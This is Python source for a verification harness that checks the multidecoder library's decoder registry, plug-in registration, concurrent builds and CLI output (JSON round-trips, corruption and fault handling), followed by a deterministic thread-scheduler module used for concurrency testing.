                self.check_registry(kws, custom, None, None, f"get_keywords(custom={custom})", filtered=False)
                _, dec = self.split(list(kws))
                if dec:
                    self.viol("keywords_contain_decoders", f"get_keywords returned decoder functions {[self.dkey(d) for d in dec]}")
            elif k == "get_analyzers":
                inc, inc_l = self.arg(op[1])
                exc, exc_l = self.arg(op[2])
                kwargs = {}
                if op[1] is not None:
                    kwargs["include"] = inc
                if op[2] is not None:
                    kwargs["exclude"] = exc
                an = list(R.get_analyzers(**kwargs))
                kw, dec = self.split(an)
                if kw:
                    self.viol("decoder_stray", f"get_analyzers returned non-decoder entries ({len(kw)})")
                self.check_decoders(dec, inc_l, exc_l, "get_analyzers")
            elif k == "build_registry":
                custom = op[1]
                inc, inc_l = self.arg(op[2])
                exc, exc_l = self.arg(op[3])
                kwargs = {}
                if op[2] is not None:
                    kwargs["include"] = inc
                if op[3] is not None:
                    kwargs["exclude"] = exc
                if custom:
                    reg = R.build_registry(self.kwdir, **kwargs)
                elif len(op) > 4 and op[4]:
                    reg = R.build_registry("", **kwargs)  # the documented default value, passed explicitly
                else:
                    reg = R.build_registry(**kwargs)
                self.check_registry(reg, custom, inc_l, exc_l, f"build_registry(custom={custom})")
            elif k == "par_build":
                self.do_par_build(op[1], op[2])
            elif k == "plugin":
                self.do_plugin(op[1])
            elif k == "multidecoder":
                from multidecoder.multidecoder import Multidecoder

                custom = op[1]
                if custom:
                    reg = R.build_registry(self.kwdir)
                    md = Multidecoder(reg)
                    if not reg:
                        # an empty registry falls back to the default; nothing to assert
                        continue
                else:
                    md = Multidecoder()
                self.check_registry(md.decoders, custom, None, None, f"Multidecoder(custom={custom}).decoders")
            elif k == "cli":
                self.do_cli()
            else:
                raise Harness("unknown op " + k)
        return {"violations": self.violations, "counters": self.counters, "events": self.events}

    def do_plugin(self, variant):
        """A decoder module that is not part of the shipped set joins the
        package (a plug-in directory on multidecoder.decoders.__path__).  What
        it marks with @decoder must be registered like everything else."""
        import multidecoder.decoders as pkg

        pdir = os.path.join(self.scratch, "plugins")
        os.makedirs(pdir, exist_ok=True)
        n = len(self.plugins)
        name = f"zz_plugin{n}"
        body = {
            "plain": "@decoder\ndef find_plugin(data: bytes):\n    return []\n",
            "wrapped": "def traced(f):\n    @functools.wraps(f)\n    def inner(data):\n        return f(data)\n    return inner\n\n\n@traced\n@decoder\ndef find_plugin(data: bytes):\n    return []\n",
            "two": "@decoder\ndef find_plugin(data: bytes):\n    return []\n\n\n@decoder\ndef find_plugin_b(data: bytes):\n    return []\n\n\ndef helper(data: bytes):\n    return []\n",
        }[variant]
        with fsim._real_open(os.path.join(pdir, name + ".py"), "w") as fh:
            fh.write("from __future__ import annotations\n\nimport functools\n\nfrom multidecoder.registry import decoder\n\n\n" + body)
        if pdir not in list(pkg.__path__):
            pkg.__path__.append(pdir)
        import importlib

        importlib.invalidate_caches()
        funcs = ["find_plugin"] + (["find_plugin_b"] if variant == "two" else [])
        self.plugins.append((name, funcs))
        self._D = None  # the default registry has grown
        D = self.default_decoders()
        for fn in funcs:
            if (name, fn) not in D:
                self.viol("marked_not_registered", f"plug-in module {name} ({variant}) marks {fn} with @decoder but it is not in the default registry")
        self.counters["plugins"] = self.counters.get("plugins", 0) + 1

    def do_par_build(self, jobs, spec):
        """Several threads build registries at the same time (typically as the
        first thing the process does, with no decoder module imported yet).
        Pre-emption is allowed inside module bodies here, and per-module import
        locks are cooperative, so one thread can observe another thread's
        half-finished import if - and only if - the code lets it."""
        from multidecoder import registry as R
        from multidecoder.multidecoder import Multidecoder

        def mk(job):
            kind, custom, inc_spec, exc_spec = job

            def fn():
                inc, _ = self.arg(inc_spec)
                exc, _ = self.arg(exc_spec)
                kwargs = {}
                if inc_spec is not None:
                    kwargs["include"] = inc
                if exc_spec is not None:
                    kwargs["exclude"] = exc
                if kind == "analyzers":
                    return list(R.get_analyzers(**kwargs))
                if kind == "multidecoder":
                    return list(Multidecoder().decoders)
                return list(R.build_registry(self.kwdir, **kwargs) if custom else R.build_registry(**kwargs))

            return fn

        cold = not any(m.startswith("multidecoder.decoders.") for m in sys.modules)
        self.counters["par_builds"] = self.counters.get("par_builds", 0) + 1
        self.counters["par_builds_cold"] = self.counters.get("par_builds_cold", 0) + int(cold)
        policy = sched.make_policy(spec, len(jobs) + 1, 20000)
        KERNEL.begin_run(policy, scope_files("all"), fault_seed=spec.get("seed", 0), engine=scope_files("guard"))
        KERNEL.preempt_in_module = True
        try:
            with watchdog(PAR_LIMIT):
                tasks = KERNEL.run_tasks([mk(j) for j in jobs], real_timeout=PAR_LIMIT)
        except HangDetected:
            raise Harness("stall: par_build")
        except kernel.SimDeadlock as e:
            self.viol("build_deadlock", f"concurrent registry builds deadlocked: {e}")
            return
        finally:
            KERNEL.preempt_in_module = False
        if KERNEL.hung:
            raise Harness("stall: par_build never gave the baton back")
        self.counters["par_build_switches"] = self.counters.get("par_build_switches", 0) + KERNEL.switches
        for job, t in zip(jobs, tasks):
            kind, custom, inc_spec, exc_spec = job
            what = f"concurrent {kind}(custom={custom})"
            if t.error is not None:
                self.viol("op_raises", f"{what}: {type(t.error).__name__}: {t.error}")
                continue
            inc_l = inc_spec[1] if inc_spec else None
            exc_l = exc_spec[1] if exc_spec else None
            if kind == "analyzers":
                kw, dec = self.split(t.result)
                if kw:
                    self.viol("decoder_stray", f"{what} returned non-decoder entries ({len(kw)})")
                self.check_decoders(dec, inc_l, exc_l, what)
            elif kind == "multidecoder":
                self.check_registry(t.result, False, None, None, what)
            else:
                self.check_registry(t.result, custom, inc_l, exc_l, what)

    def do_cli(self):
        """CLI --keywords DIR replaces the shipped keywords: a shipped label
        that the custom directory does not define must not appear."""
        import procsim

        mfiles = model.layout_model(self.scn["layout"])
        custom_labels = {b for b, _ in mfiles}
        probe, _ = build_probe(mfiles, self.shipped_sample())
        r = procsim.run_cli(["--json", "--keywords", self.kwdir], probe, self.w.get("io", {}), self.w.get("io_seed", 0) + self.opi, self.counters)
        if r["status"] != 0:
            self.viol("cli_failed", f"status {r['status']}: {r['stderr'][-300:]}")
            return
        try:
            doc = json.loads(r["stdout"].decode("utf-8"))
        except Exception as ex:  # noqa: BLE001
            self.viol("cli_bad_json", str(ex))
            return
        shipped_labels = {b for b, _ in self.shipped_model()} - custom_labels
        seen = set()

        def walk(n):
            seen.add(n["type"])
            for c in n["children"]:
                walk(c)

        walk(doc)
        leaked = sorted(seen & shipped_labels)
        if leaked:
            self.viol("cli_shipped_keywords_leak", f"--keywords DIR output still has shipped labels {leaked[:5]}")


# ==========================================================================
# C20


class W20:
    def __init__(self, scn, widx, verbose, scratch):
        self.scn = scn
        self.w = scn["worlds"][widx]
        self.verbose = verbose
        self.scratch = scratch
        self.violations = []
        self.events = []
        self.counters = {"cli_runs": 0, "json_runs": 0, "default_runs": 0, "replace_runs": 0, "replace_asserted": 0,
                         "replace_skipped": 0, "corruptions": 0, "corruptions_detected": 0, "fault_runs": 0,
                         "fault_fired": 0, "fault_failed_cleanly": 0, "fault_survived": 0, "consumer_roundtrips": 0,
                         "crashes": 0, "nodes_max": 0, "depth_max": 0, "nonascii_labels": 0}
        self.opi = -1

    def viol(self, clause, detail):
        self.violations.append({"clause": clause, "detail": detail, "op": self.opi})

    def run(self):
        import random

        scn, w = self.scn, self.w
        kwdir = ""
        if scn.get("layout"):
            fsim.materialise(scn["layout"], os.path.join(self.scratch, kwdir_name(w.get("kwdir_form"))))
            kwdir = kwdir_path(self.scratch, w.get("kwdir_form"))
        FS.configure(enum_seed=w.get("enum_seed", 0), io_seed=w.get("io_seed", 0), io_knobs=w.get("io", {}))
        import_repo()
        import procsim

        procsim.ensure_version_stub()
        from multidecoder.json_conversion import json_to_tree, tree_to_json
        from multidecoder.multidecoder import Multidecoder
        from multidecoder.registry import build_registry

        data = bytes.fromhex(scn["input"])
        # library side, built under the same enumeration draw as the CLI's own build
        FS.reset_epoch()
        md = Multidecoder(build_registry(kwdir) if kwdir else None)
        # The library's own scan runs under the deterministic step limit: whether scan terminates on
        # these bytes is C01's subject, not C20's; without a tree there is nothing for the CLI to be
        # compared with and the scenario ends here.
        try:
            with lib_run(w, -1), watchdog(SCAN_WALL):
                tree = md.scan(data)
        except kernel.StepLimitExceeded:
            self.counters["library_scan_hit_step_limit"] = 1
            self.events.append({"nodes": 0, "skipped": "library scan exceeded the step limit (does not terminate on this input)"})
            return {"violations": self.violations, "counters": self.counters, "events": self.events}
        except HangDetected:
            # the scan neither finished nor hit the step limit within the wall budget: slow code
            # outside the scanning loop (C01's subject, e.g. xortool's key search); no tree, no verdict
            self.counters["library_scan_too_slow"] = 1
            self.events.append({"nodes": 0, "skipped": "library scan exceeded the wall budget"})
            return {"violations": self.violations, "counters": self.counters, "events": self.events}
        except Exception as ex:  # noqa: BLE001 - scan is not total on these bytes (C01's subject): no tree, nothing to compare
            self.counters["library_scan_raised"] = 1
            self.events.append({"nodes": 0, "skipped": f"library scan raised {type(ex).__name__}"})
            return {"violations": self.violations, "counters": self.counters, "events": self.events}
        ctree = model.canon(tree)
        nn = model.count_nodes(ctree)
        self.counters["nodes_max"] = nn
        self.counters["depth_max"] = model.tree_depth(ctree)
        self.events.append({"nodes": nn, "depth": self.counters["depth_max"], "ties": model.tie_groups(ctree),
                            "decoded": model.decoded_nodes(ctree), "tree": model.digest(ctree)})

        def nonascii(c):
            return (1 if any(ord(ch) > 127 for ch in c[0]) else 0) + sum(nonascii(k) for k in c[5])

        self.counters["nonascii_labels"] = nonascii(ctree)
        self.events[-1]["labels"] = sorted(model.labels(ctree))
        lib_json = tree_to_json(tree)
        expected = {
            "json": (lib_json + "\n").encode("utf-8"),
            "replace": None,
            "default": None,
        }
        # pure clauses on the tree that is about to cross the pipe
        self.opi = -1
        self.consumer(lib_json, tree, ctree, "in-process")
        infile = os.path.join(self.scratch, "input.bin")
        with fsim._real_open(infile, "wb") as fh:
            fh.write(data)
        outputs = {}
        # Fault runs are judged against the bytes a fault-free run of the same mode wrote
        # (itself checked by the strict oracles), not against a rendering the harness assumes.
        need_ref = sorted({r["mode"] for r in w["runs"] if (r.get("knobs") or {}).get("stdin_fault") or (r.get("knobs") or {}).get("stdout_fault")})
        runs = [{"mode": m, "source": "stdin", "seed": 1, "knobs": {"chunk": "full"}, "reference": True} for m in need_ref] + list(w["runs"])
        nref = len(need_ref)
        for k, run in enumerate(runs):
            self.opi = k - nref
            mode = run["mode"]
            argv = []
            flag = {"json": ("--json", "-j"), "replace": ("--replace", "-r"), "default": (None, None)}[mode][1 if run.get("short") else 0]
            if flag:
                argv.append(flag)
            if kwdir:
                argv += ["-k" if run.get("short") else "--keywords", kwdir]
            elif run.get("kw_empty"):
                # a wrapper passed an unset variable: --keywords "" (no custom directory is named)
                argv += ["--keywords="] if run.get("short") else ["--keywords", ""]
            stdin = data
            fifo = None
            if run["source"] == "file":
                argv.append(infile)
                stdin = b""
            elif run["source"] == "fifo":
                # FILE names a pipe (process substitution, mkfifo): no size, bytes arrive in pieces
                import random as _random

                fifo = fsim.FifoFeeder(os.path.join(self.scratch, f"fifo-{k}"), data, _random.Random(run.get("seed", 0)), run.get("knobs") or {}, self.counters)
                fifo.start()
                argv.append(fifo.path)
                stdin = b""
            if run.get("flag_last") and flag:
                argv = argv[1:] + [flag]
            knobs = dict(run.get("knobs") or {})
            faulty = bool(knobs.get("stdin_fault") or knobs.get("stdout_fault"))
            saved_knobs = FS.io_knobs
            if run["source"] == "file" and knobs.get("stdin_fault"):
                # the fault goes on the file read instead
                FS.io_knobs = dict(FS.io_knobs, file_fault=knobs["stdin_fault"])
            FS.reset_epoch()
            self.counters["cli_runs"] += 1
            self.counters[mode + "_runs"] += 1
            try:
                r = procsim.run_cli(argv, stdin, knobs, run.get("seed", 0), self.counters)
            finally:
                FS.io_knobs = saved_knobs
                if fifo is not None:
                    fifo.stop()
            out = r["stdout"]
            if r["crashed"]:
                self.counters["crashes"] += 1
            ev = {"op": self.opi, "mode": mode, "source": run["source"], "status": r["status"], "out_len": len(out),
                  "out": model.digest(out.hex()), "faulty": faulty}
            self.events.append(ev)
            # ---- expected bytes for this mode, from the library's tree
            if mode == "json":
                exp = expected["json"]
            elif mode == "replace":
                exp = None
            else:
                exp = None
            if faulty:
                self.counters["fault_runs"] += 1
                self.check_faulty(mode, r, tree, ctree, data, outputs.get(mode))
                continue
            if (r["status"] != 0 or r["stderr"]) and run.get("kw_empty") and not kwdir and not out:
                continue  # refusing an empty --keywords value is fine; printing another tree is not
            if r["status"] != 0 or r["stderr"]:
                self.viol("cli_failed", f"{mode}/{run['source']}: status {r['status']} stderr {r['stderr'][-300:]!r}")
                continue
            prev = outputs.get(mode)
            if prev is not None and prev != out:
                self.viol("file_vs_stdin_or_rerun_differs", f"{mode}: two fault-free runs on the same bytes gave different output")
            outputs[mode] = out
            enc = knobs.get("stdout_encoding") or "utf-8"
            if mode == "json":
                self.check_json(out, tree, ctree, run, enc)
            elif mode == "default":
                self.check_default(out, ctree, enc)
            else:
                self.check_replace(out, tree, ctree)
        return {"violations": self.violations, "counters": self.counters, "events": self.events}

    # ---- oracles ----------------------------------------------------------
    def consumer(self, text, tree, ctree, where):
        """json_to_tree on text must give a tree equal to `tree` with correct
        parent links.  Returns the consumer's tree or None."""
        from multidecoder.json_conversion import json_to_tree

        self.counters["consumer_roundtrips"] += 1
        try:
            back = json_to_tree(text)
        except Exception as ex:  # noqa: BLE001
            self.viol("roundtrip_raises", f"{where}: json_to_tree raised {type(ex).__name__}: {ex}")
            return None
        try:
            cb = model.canon(back)
        except Exception as ex:  # noqa: BLE001
            self.viol("roundtrip_not_a_tree", f"{where}: json_to_tree returned {type(back).__name__}: {ex}")
            return None
        if cb != ctree:
            self.viol("roundtrip_differs", f"{where}: {model.canon_diff(ctree, cb)}")
        elif not (back == tree):
            self.viol("equal_trees_compare_unequal", f"{where}: field-wise identical trees compare unequal")
        if not model.parent_links_ok(back, None):
            self.viol("roundtrip_parent_links", f"{where}: a child's parent is not the node that lists it (or the root has a parent)")
        # the pass-through keyword arguments of both functions must not change what comes back
        from collections import OrderedDict

        from multidecoder.json_conversion import tree_to_json

        variants = [
            ({}, {"object_pairs_hook": OrderedDict}),
            ({"indent": 1, "sort_keys": True}, {}),
            ({"separators": (",", ":"), "ensure_ascii": False}, {"parse_int": int, "strict": False}),
            ({"indent": "\t"}, {"object_hook": lambda d: d}),
        ]
        enc_kw, dec_kw = variants[self.w.get("io_seed", 0) % len(variants)]
        try:
            again = json_to_tree(tree_to_json(tree, **enc_kw), **dec_kw)
            ca = model.canon(again)
            self.counters["kwarg_roundtrips"] = self.counters.get("kwarg_roundtrips", 0) + 1
            if ca != ctree:
                self.viol("roundtrip_differs", f"{where}: with tree_to_json(**{sorted(enc_kw)}) / json_to_tree(**{sorted(dec_kw)}): {model.canon_diff(ctree, ca)}")
            elif not model.parent_links_ok(again, None):
                self.viol("roundtrip_parent_links", f"{where}: with keyword arguments {sorted(enc_kw)} / {sorted(dec_kw)}")
        except Exception as ex:  # noqa: BLE001
            self.viol("roundtrip_not_a_tree", f"{where}: with tree_to_json(**{sorted(enc_kw)}) / json_to_tree(**{sorted(dec_kw)}): {type(ex).__name__}: {ex}")
        # a consumer that keeps only some descendants (hits = [n for n in tree if ...]) still
        # reaches every ancestor through .parent
        kept = []

        def walk(n, depth):
            for c in n.children:
                kept.append((c, depth + 1))
                walk(c, depth + 1)

        try:
            walk(json_to_tree(text), 0)
        except Exception:  # noqa: BLE001 - reported above
            kept = []
        gc.collect()
        for n, depth in kept:
            k, cur = 0, n
            while cur.parent is not None and k <= depth + 1:
                cur = cur.parent
                k += 1
            if k != depth:
                self.viol("roundtrip_parent_links", f"{where}: after the caller dropped the root, a node at depth {depth} reaches only {k} ancestors through .parent")
                break
        return back

    def check_json(self, out, tree, ctree, run, enc="utf-8"):
        self.counters["json_runs"] += 0
        try:
            text = out.decode(enc)
            doc = json.loads(text)
        except Exception as ex:  # noqa: BLE001
            self.viol("json_invalid", f"stdout is not valid JSON: {ex}")
            return

        def from_doc(d):
            return [d["type"], d["value"], d["obfuscation"], d["start"], d["end"], [from_doc(c) for c in d["children"]]]

        try:
            cd = from_doc(doc)
        except Exception as ex:  # noqa: BLE001
            self.viol("json_fields", f"a node lacks a field: {type(ex).__name__} {ex}")
            return
        if cd != ctree:
            self.viol("json_not_library_tree", model.canon_diff(ctree, cd))
            return
        self.consumer(text, tree, ctree, "cli-json")
        cor = run.get("corrupt")
        if cor:
            self.check_corruption(doc, tree, cor)

    def check_corruption(self, doc, tree, cor):
        """Alter one field of one node in transit (JSON stays valid); the
        consumer's tree must compare unequal to the producer's."""
        import copy
        import random

        from multidecoder.json_conversion import json_to_tree

        rng = random.Random(cor["seed"])
        d2 = copy.deepcopy(doc)
        nodes = []

        parent_of = {}

        def walk(n):
            nodes.append(n)
            for c in n["children"]:
                parent_of[id(c)] = n
                walk(c)

        walk(d2)
        kinds = ["value", "start", "end", "type", "obfuscation", "drop_child", "dup_child", "swap_children", "hoist_child", "sink_sibling"]
        rng.shuffle(kinds)
        done = None
        for kind in kinds:
            cand = list(nodes)
            rng.shuffle(cand)
            for n in cand:
                if kind == "value" and n["value"]:
                    i = rng.randrange(len(n["value"]))
                    ch = n["value"][i]
                    n["value"] = n["value"][:i] + ("0" if ch != "0" else "1") + n["value"][i + 1 :]
                    done = kind
                elif kind == "start":
                    n["start"] += 1
                    done = kind
                elif kind == "end":
                    n["end"] += 1
                    done = kind
                elif kind == "type":
                    n["type"] = n["type"] + "x"
                    done = kind
                elif kind == "obfuscation":
                    n["obfuscation"] = n["obfuscation"] + "x"
                    done = kind
                elif kind == "drop_child" and n["children"]:
                    n["children"].pop(rng.randrange(len(n["children"])))
                    done = kind
                elif kind == "dup_child" and n["children"]:
                    n["children"].append(copy.deepcopy(n["children"][-1]))
                    done = kind
                elif kind == "hoist_child" and n is not d2 and n["children"]:
                    # the node's last child becomes its next sibling: same nodes, same pre-order, other nesting
                    par = parent_of.get(id(n))
                    if par is not None:
                        ch = n["children"].pop()
                        par["children"].insert(par["children"].index(n) + 1, ch)
                        done = kind
                elif kind == "sink_sibling" and len(n["children"]) >= 2:
                    # the second of two siblings becomes the last child of the first
                    i = rng.randrange(len(n["children"]) - 1)
                    sib = n["children"].pop(i + 1)
                    n["children"][i]["children"].append(sib)
                    done = kind
                elif kind == "swap_children" and len(n["children"]) >= 2:
                    i = rng.randrange(len(n["children"]) - 1)
                    if n["children"][i] != n["children"][i + 1]:
                        n["children"][i], n["children"][i + 1] = n["children"][i + 1], n["children"][i]
                        done = kind
                if done:
                    break
            if done:
                break
        if not done:
            return
        self.counters["corruptions"] += 1
        try:
            back = json_to_tree(json.dumps(d2))
        except Exception:  # noqa: BLE001 - already reported by consumer()
            return
        try:
            same = back == tree
            same_rev = tree == back
        except Exception as ex:  # noqa: BLE001
            self.viol("eq_raises", f"{type(ex).__name__}: {ex}")
            return
        if same or same_rev:
            self.viol("corruption_undetected", f"a tree whose {done} was altered in transit still compares equal")
        else:
            self.counters["corruptions_detected"] += 1
        # the altered tree is a tree no scan produces (spans may overlap or leave their parent):
        # the codec must be lossless on it as well
        from multidecoder.json_conversion import tree_to_json

        try:
            cb = model.canon(back)
            again = json_to_tree(tree_to_json(back))
            ca = model.canon(again)
        except Exception as ex:  # noqa: BLE001
            self.viol("roundtrip_raises", f"altered tree ({done}): {type(ex).__name__}: {ex}")
            return
        self.counters["synthetic_roundtrips"] = self.counters.get("synthetic_roundtrips", 0) + 1
        if ca != cb:
            self.viol("roundtrip_differs", f"altered tree ({done}): {model.canon_diff(cb, ca)}")
        elif not (again == back):
            self.viol("equal_trees_compare_unequal", f"altered tree ({done}): field-wise identical trees compare unequal")
        if not model.parent_links_ok(again, None):
            self.viol("roundtrip_parent_links", f"altered tree ({done})")

    def check_default(self, out, ctree, enc="utf-8"):
        try:
            text = out.decode(enc)
        except Exception as ex:  # noqa: BLE001
            self.viol("default_not_utf8", str(ex))
            return
        problem = model.check_default_output(text, ctree)
        if problem:
            self.viol("default_output", problem)

    def check_replace(self, out, tree, ctree):
        if not model.replace_precondition(ctree):
            self.counters["replace_skipped"] += 1
            return
        self.counters["replace_asserted"] += 1
        flat = tree.flatten()
        if out != flat:
            self.viol("replace_not_flatten", f"--replace wrote {out[:80]!r}… but flatten() is {flat[:80]!r}…")

    def check_faulty(self, mode, r, tree, ctree, data, full):
        """Narrow relaxation: the run may fail, it must never deliver wrong data.
        `full` is what a fault-free run of the same mode wrote (None if that run
        itself failed - then there is nothing to compare with)."""
        out = r["stdout"]
        if full is None and mode != "default":
            return
        clean = r["status"] == 0 and not r["stderr"] and not r["crashed"]
        if clean:
            self.counters["fault_survived"] += 1
            if mode == "default":
                self.check_default(out, ctree)
            elif out != full:
                self.viol("fault_wrong_data_on_success", f"{mode}: status 0, empty stderr, but output differs from the correct output")
            return
        self.counters["fault_failed_cleanly"] += 1
        if mode == "default":
            # prefix of a valid rendering: every complete line must be right
            text = out.decode("utf-8", "replace")
            lines = text.split("\n")[:-1]
            nodes = list(model.preorder_with_chain(ctree))
            for i, line in enumerate(lines):
                if i >= len(nodes):
                    self.viol("fault_wrong_data", "more lines than nodes")
                    break
                chain, value = nodes[i]
                esc = model.escaped(value)
                if not line.endswith(" " + esc) or not model.label_matches(line[: len(line) - len(esc) - 1], chain):
                    self.viol("fault_wrong_data", f"default: line {i} of a failed run is wrong: {line!r}")
                    break
            return
        if not full.startswith(out):
            self.viol("fault_wrong_data", f"{mode}: output of a failed run is not a prefix of the correct output")
            return
        if mode == "json":
            # the consumer either gets the right tree or raises
            from multidecoder.json_conversion import json_to_tree

            try:
                back = json_to_tree(out.decode("utf-8", "replace"))
            except Exception:  # noqa: BLE001
                return
            try:
                if model.canon(back) != ctree:
                    self.viol("fault_consumer_wrong_tree", "consumer decoded a truncated document into a different tree")
            except Exception:  # noqa: BLE001
                return


def self_json(tree):
    from multidecoder.json_conversion import tree_to_json

    return tree_to_json(tree)


# ==========================================================================


def main():
    faulthandler.enable()
    try:
        import resource

        lim = int(os.environ.get("VERIF_WORLD_MEM", str(3 << 30)))
        resource.setrlimit(resource.RLIMIT_AS, (lim, lim))
    except Exception:  # noqa: BLE001
        pass
    req = json.loads(sys.stdin.buffer.read().decode("utf-8"))
    # The log goes to a private descriptor; descriptors 0/1 of the world are
    # not the simulated process's streams.  Anything the code under test
    # writes to fd 1 directly (bypassing sys.stdout) lands in a scratch file
    # and is counted, instead of corrupting the log.
    log_fd = os.dup(1)
    stray_path = os.path.join(os.environ.get("VERIF_SCRATCH", "/tmp"), "stray-fd1.bin")
    os.makedirs(os.path.dirname(stray_path), exist_ok=True)
    stray = os.open(stray_path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_APPEND, 0o600)
    os.dup2(stray, 1)
    os.close(stray)
    os.environ["VERIF_FD1_PATH"] = stray_path
    devnull = os.open(os.devnull, os.O_RDONLY)
    os.dup2(devnull, 0)
    os.close(devnull)
    scn = req["scenario"]
    widx = req.get("world", 0)
    scratch = os.environ.get("VERIF_SCRATCH")
    if not scratch:
        raise SystemExit("VERIF_SCRATCH not set")
    os.makedirs(scratch, exist_ok=True)
    FS.add_root(os.path.join(SRC, "multidecoder", "keywords"), "shipped")
    FS.add_root(scratch, "scratch")
    rt = scn["worlds"][widx].get("runtime") or {}
    if rt.get("gc") == "off":
        gc.disable()
    elif rt.get("gc") == "aggressive":
        gc.set_threshold(1, 1, 1)
    if rt.get("recursion_limit"):
        sys.setrecursionlimit(int(rt["recursion_limit"]))
    kernel.install()
    KERNEL.adopt_main()
    FS.install()
    ENV.configure(scn["worlds"][widx].get("env_seed", 0))
    ENV.install()
    out = {"ok": True}
    try:
        cls = {"C09": W09, "C18": W18, "C20": W20}[scn["property"]]
        w = cls(scn, widx, bool(req.get("verbose")), scratch)
        out.update(w.run())
    except Harness as e:
        out = {"ok": False, "harness_error": str(e)}
    except BaseException as e:  # noqa: BLE001
        out = {"ok": False, "harness_error": f"{type(e).__name__}: {e}", "traceback": traceback.format_exc()[-3000:]}
    finally:
        FS.uninstall()
        ENV.uninstall()
    out["fs"] = FS.counters_json()
    out["envsim"] = dict(ENV.counters)
    out["kernel"] = dict(KERNEL.counters)
    try:
        sys.stdout.flush()
    except Exception:  # noqa: BLE001
        pass
    try:
        out["stray_fd1_bytes"] = os.path.getsize(stray_path)
    except OSError:
        out["stray_fd1_bytes"] = 0
    payload = memoryview((json.dumps(out) + "\n").encode("utf-8"))
    while payload:
        n = os.write(log_fd, payload)
        payload = payload[n:]
    # never wait for abandoned (hung) task threads at interpreter shutdown
    os._exit(0)


if __name__ == "__main__":
    main()
