"""Baton-passing deterministic thread scheduler.

Real OS threads, exactly one of which holds the baton; the others are parked on
private _thread locks.  Pre-emption points are sys.settrace 'line' events in
frames whose code object lives in one of the scope files (files under
<repo>/src/multidecoder).  At every pre-emption point - and at every task
completion - the scheduler alone decides who runs next.  Every decision is
recorded as [event_number, task]; an explicit decision list replays a run
without the PRNG.

Event numbering: every pre-emption point and every task completion increments
one global counter.  A decision [n, t] means "at event n, hand the baton to t".
Replay semantics are total (so ddmin may drop decisions): decisions whose
event number has passed are skipped; a decision naming a finished task is
ignored; with no decision, a pre-emption point continues the current task and a
completion hands over to the lowest-numbered unfinished task.
"""

from __future__ import annotations

import _thread
import random
import sys
import threading


class Task:
    __slots__ = ("idx", "fn", "gate", "done", "result", "error", "in_module", "steps")

    def __init__(self, idx, fn):
        self.idx = idx
        self.fn = fn
        self.gate = _thread.allocate_lock()
        self.gate.acquire()
        self.done = False
        self.result = None
        self.error = None
        self.in_module = 0
        self.steps = 0


class Policy:
    """Decides at each event.  at_step returns the task to run next (may be
    the current one); at_done returns the task to run after a completion."""

    def at_step(self, n, cur, runnable):
        return cur

    def at_done(self, n, cur, runnable):
        return runnable[0]


class RandomWalk(Policy):
    def __init__(self, seed, quantum):
        self.rng = random.Random(seed)
        self.p = 1.0 / max(1.0, float(quantum))

    def at_step(self, n, cur, runnable):
        if len(runnable) > 1 and self.rng.random() < self.p:
            others = [t for t in runnable if t != cur]
            return self.rng.choice(others)
        return cur

    def at_done(self, n, cur, runnable):
        return self.rng.choice(runnable)


class PCT(Policy):
    """Probabilistic concurrency testing: random priorities, d-1 priority
    change points over an estimated run length."""

    def __init__(self, seed, ntasks, depth, est_steps):
        rng = random.Random(seed)
        prios = list(range(depth, depth + ntasks))
        rng.shuffle(prios)
        self.prio = {i: prios[i] for i in range(ntasks)}
        est = max(1, int(est_steps))
        self.change = {}
        for k in range(depth - 1):
            self.change[rng.randint(1, est)] = k  # new (low) priority k

    def _best(self, runnable):
        # tasks that appear later (library-started threads) get low, distinct priorities
        return max(runnable, key=lambda t: self.prio.get(t, -t))

    def at_step(self, n, cur, runnable):
        if n in self.change:
            self.prio[cur] = self.change[n]
        return self._best(runnable)

    def at_done(self, n, cur, runnable):
        return self._best(runnable)


class SiteWeighted(Policy):
    """Random walk whose switch probability at a line is k / (how often the dry
    run executed that line), capped at 1/2: every *distinct* line gets about k
    pre-emptions per run, so rarely executed lines (where shared state is set
    up) are hit as often as the hot loops around them."""

    wants_site = True

    def __init__(self, seed, counts, k):
        self.rng = random.Random(seed)
        self.counts = counts or {}
        self.k = float(k)

    def at_step(self, n, cur, runnable, site=None):
        if len(runnable) > 1:
            c = self.counts.get(site, 1)
            if self.rng.random() < min(0.5, self.k / c):
                others = [t for t in runnable if t != cur]
                return self.rng.choice(others)
        return cur

    def at_done(self, n, cur, runnable):
        return self.rng.choice(runnable)


class RunToCompletion(Policy):
    def __init__(self, seed, ntasks):
        order = list(range(ntasks))
        random.Random(seed).shuffle(order)
        self.rank = {t: i for i, t in enumerate(order)}

    def at_done(self, n, cur, runnable):
        return min(runnable, key=lambda t: self.rank.get(t, 1000 + t))

    def first(self, runnable):
        return min(runnable, key=lambda t: self.rank.get(t, 1000 + t))


class Explicit(Policy):
    def __init__(self, decisions):
        self.dec = [list(d) for d in decisions]
        self.i = 0

    def _take(self, n, runnable):
        while self.i < len(self.dec) and self.dec[self.i][0] < n:
            self.i += 1
        if self.i < len(self.dec) and self.dec[self.i][0] == n:
            t = self.dec[self.i][1]
            self.i += 1
            if t in runnable:
                return t
        return None

    def at_step(self, n, cur, runnable):
        t = self._take(n, runnable)
        return cur if t is None else t

    def at_done(self, n, cur, runnable):
        t = self._take(n, runnable)
        return runnable[0] if t is None else t


def make_policy(spec, ntasks, est_steps, counts=None):
    kind = spec.get("policy", "rw")
    if kind == "sw":
        return SiteWeighted(spec.get("seed", 0), counts, spec.get("k", 1.0))
    if kind == "explicit":
        return Explicit(spec.get("decisions", []))
    seed = spec.get("seed", 0)
    if kind == "rw":
        return RandomWalk(seed, spec.get("quantum", 50))
    if kind == "pct":
        return PCT(seed, ntasks, spec.get("depth", 2), est_steps)
    if kind == "rtc":
        return RunToCompletion(seed, ntasks)
    raise ValueError("unknown policy " + kind)


class Scheduler:
    def __init__(self, scope_files, policy, step_cap=None, first=None):
        self.scope = scope_files  # set of co_filename strings
        self.policy = policy
        self.step_cap = step_cap
        self.tasks = []
        self.n = 0  # global event counter
        self.cur = None
        self.decisions = []
        self.switches = 0
        self.cap_hit = False
        self.deadlock = False
        self._main_gate = _thread.allocate_lock()
        self._main_gate.acquire()
        self.switch_sites = []  # (task, file:line) digest input
        self._first = first
        self.hung = False

    # -- tracing ------------------------------------------------------------
    def _make_tracer(self, task):
        scope = self.scope
        sched = self

        def local(frame, event, arg):
            if event == "line":
                if not task.in_module:
                    sched._step(task, frame)
            return local

        def local_module(frame, event, arg):
            if event == "return":
                task.in_module -= 1
            return local_module

        def glob(frame, event, arg):
            co = frame.f_code
            if co.co_filename in scope:
